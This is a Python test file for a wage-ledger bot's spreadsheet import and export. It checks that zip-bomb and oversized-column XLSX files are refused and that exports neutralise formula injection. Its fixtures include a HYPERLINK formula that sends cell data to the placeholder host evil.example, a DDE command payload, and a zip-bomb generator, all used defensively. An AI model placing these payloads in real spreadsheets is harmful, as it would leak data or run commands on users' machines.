"""Files in and out: caps before reading, formulas never live in exports, jobs that kill
their process stop at the attempt limit, CSVs with old Mac line endings."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session

from bot.errors import UserError
from bot.jobs import LEASE, MAX_ATTEMPTS, run_pending
from domain.access import resolve_principal
from handlers.tabular import readers
from handlers.tabular.exporter import export_kind
from handlers.tabular.importer import import_bytes
from handlers.tabular.xlsx_fast import MAX_UNCOMPRESSED
from models import Job, JobStatus, OutboxMessage, WagePayment, Worker, WorkRecord
from models.base import utcnow
from tests.handlers.ledger_fixtures import ADMIN, LIAISON, Seed, seed_ledger
from tests.handlers.test_ledger_files import FakeMedia

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"/>'
)
WORKBOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
    "</Relationships>"
)
SHEET_HEAD = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"


def xlsx_with_sheet(write_sheet) -> bytes:  # type: ignore[no-untyped-def]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("xl/workbook.xml", WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", RELS)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            write_sheet(fh)
    return buf.getvalue()


def wide_xlsx() -> bytes:
    """A tiny sheet whose one cell claims a column some billions to the right."""

    def sheet(fh):  # type: ignore[no-untyped-def]
        fh.write(
            (
                SHEET_HEAD + '<row r="1"><c r="A1" t="inlineStr"><is><t>项目编号</t></is></c>'
                f'<c r="{"A" * 40}1"><v>1</v></c></row>' + SHEET_TAIL
            ).encode()
        )

    return xlsx_with_sheet(sheet)


def bomb_xlsx() -> bytes:
    """A few hundred KB that unpack to more than MAX_UNCOMPRESSED."""

    def sheet(fh):  # type: ignore[no-untyped-def]
        fh.write(SHEET_HEAD.encode())
        chunk = b" " * (1024 * 1024)
        for _ in range(MAX_UNCOMPRESSED // len(chunk) + 8):
            fh.write(chunk)
        fh.write(SHEET_TAIL.encode())

    return xlsx_with_sheet(sheet)


@pytest.fixture
def seed(session: Session, settings) -> Seed:  # type: ignore[no-untyped-def]
    return seed_ledger(session, settings)


def sent_to(session: Session, user: str) -> list[str]:
    try:
        rows = session.scalars(select(OutboxMessage).where(OutboxMessage.recipient == user))
        return [r.payload.get("content", "") for r in rows]
    finally:
        session.rollback()


@pytest.mark.parametrize(
    ("make", "said"), [(wide_xlsx, "列数超过"), (bomb_xlsx, "解压后超过")], ids=["wide", "bomb"]
)
def test_hostile_xlsx_is_refused_before_reading_with_a_clear_reply(
    wecom, services, session, seed, make, said
):
    data = make()
    assert len(data) < 2 * 1024 * 1024
    services.wecom = FakeMedia({"m-hostile": ("work.xlsx", data)})
    r = wecom.file(LIAISON, "m-hostile", "work.xlsx")
    assert r.status == 200 and "正在后台校验导入" in r.text
    assert run_pending(services.session_factory, services) == 1
    texts = sent_to(session, LIAISON)
    assert any(said in t for t in texts), texts
    assert session.scalar(select(func.count()).select_from(WorkRecord)) == 0


def test_too_many_rows_is_refused(session, settings, seed, monkeypatch):
    monkeypatch.setattr(readers, "MAX_ROWS", 5)
    body = "\n".join(f"NT-2026-001,{seed.ids['张三']},2026-01-{d:02d},1,150" for d in range(1, 80))
    with pytest.raises(UserError, match="超过 5 行"):
        import_bytes(
            session,
            settings,
            "work",
            "w.csv",
            ("项目编号,身份证号,日期,天数,日薪(元)\n" + body).encode(),
            actor=None,
            channel="cli",
            today=seed.today,
        )


def test_csv_with_cr_only_line_endings_imports(session, settings, seed):
    day = seed.today - timedelta(days=3)
    lines = [
        "项目编号,身份证号,日期,天数,日薪(元)",
        f"NT-2026-001,{seed.ids['张三']},{day:%Y-%m-%d},1,150",
        f"NT-2026-001,{seed.ids['李四']},{day:%Y-%m-%d},1,150",
    ]
    report = import_bytes(
        session,
        settings,
        "work",
        "mac.csv",
        "\r".join(lines).encode("gbk"),
        actor=None,
        channel="cli",
        today=seed.today,
    )
    assert report.ok and report.written == 2, report.text()
    session.rollback()


def test_a_broken_csv_gets_a_hint(session, settings, seed):
    # a quote never closed: the rest of the file becomes one field, past csv's field limit
    data = ('项目编号,身份证号,日期,天数,日薪(元)\nNT-2026-001,"1,' + "x," * 100_000).encode()
    with pytest.raises(UserError, match="另存为"):
        import_bytes(
            session, settings, "work", "bad.csv", data, actor=None, channel="cli", today=seed.today
        )


FORMULAS = {
    "village": '=HYPERLINK("http://evil.example/?d="&B2,"点我")',
    "voucher": "=cmd|' /C calc'!A0",
}


def _poison(session: Session, seed: Seed) -> None:
    session.execute(update(Worker).values(village=FORMULAS["village"]))
    zhang = session.scalar(select(Worker.id).where(Worker.name == "张三"))
    day = seed.today - timedelta(days=3)
    session.add(
        WorkRecord(
            project_id=seed.p1.id,
            worker_id=zhang,
            work_date=day,
            period=f"{day:%Y-%m}",
            days=1,
            daily_wage_fen=15000,
            due_fen=15000,
            created_by="seed",
        )
    )
    for voucher in (FORMULAS["voucher"], "+1-2", "@SUM(1)", "\tx", "-3"):
        session.add(
            WagePayment(
                project_id=seed.p1.id,
                worker_id=zhang,
                period=f"{day:%Y-%m}",
                amount_fen=100,
                paid_on=seed.today,
                method="银行代发",
                voucher=voucher,
                created_by="seed",
            )
        )
    session.commit()


def test_exports_write_formula_like_text_as_text(session, settings, seed, tmp_path: Path):
    _poison(session, seed)
    admin = resolve_principal(session, ADMIN)
    for kind in ("workers", "wages"):
        path = tmp_path / f"{kind}.xlsx"
        export_kind(session, settings, kind, path, actor=admin)
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in zf.read(name), name  # no formula anywhere
        wb = load_workbook(path)
        values = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        poisoned = [c for c in values if isinstance(c.value, str) and c.value[:1] in "=+-@\t"]
        assert poisoned and all(c.data_type == "s" for c in poisoned)
        assert any(
            c.value == FORMULAS["village" if kind == "workers" else "voucher"] for c in poisoned
        )
        path = tmp_path / f"{kind}.csv"
        export_kind(session, settings, kind, path, actor=admin)
        cells = [c for row in csv.reader(path.open(encoding="utf-8-sig")) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert ("'" + FORMULAS["village" if kind == "workers" else "voucher"]) in cells


def test_a_job_that_kills_its_process_stops_at_the_limit_and_tells_the_sender(
    session, services, seed
):
    session.add(Job(kind="import_file", key="k-dies", user_id=LIAISON, payload={}))
    session.commit()
    now = utcnow()
    # each try: claimed, then the process dies (the lease runs out with no outcome)
    for i in range(MAX_ATTEMPTS):
        session.execute(
            update(Job).values(
                status=JobStatus.RUNNING, attempts=i + 1, locked_until=now - timedelta(seconds=1)
            )
        )
        session.commit()
    assert run_pending(services.session_factory, services, now=now + LEASE) == 0
    job = session.scalar(select(Job))
    assert job is not None and job.status == JobStatus.FAILED and job.attempts == MAX_ATTEMPTS
    session.rollback()
    texts = sent_to(session, LIAISON)
    assert any("多次中断" in t and "没有写入任何数据" in t for t in texts), texts
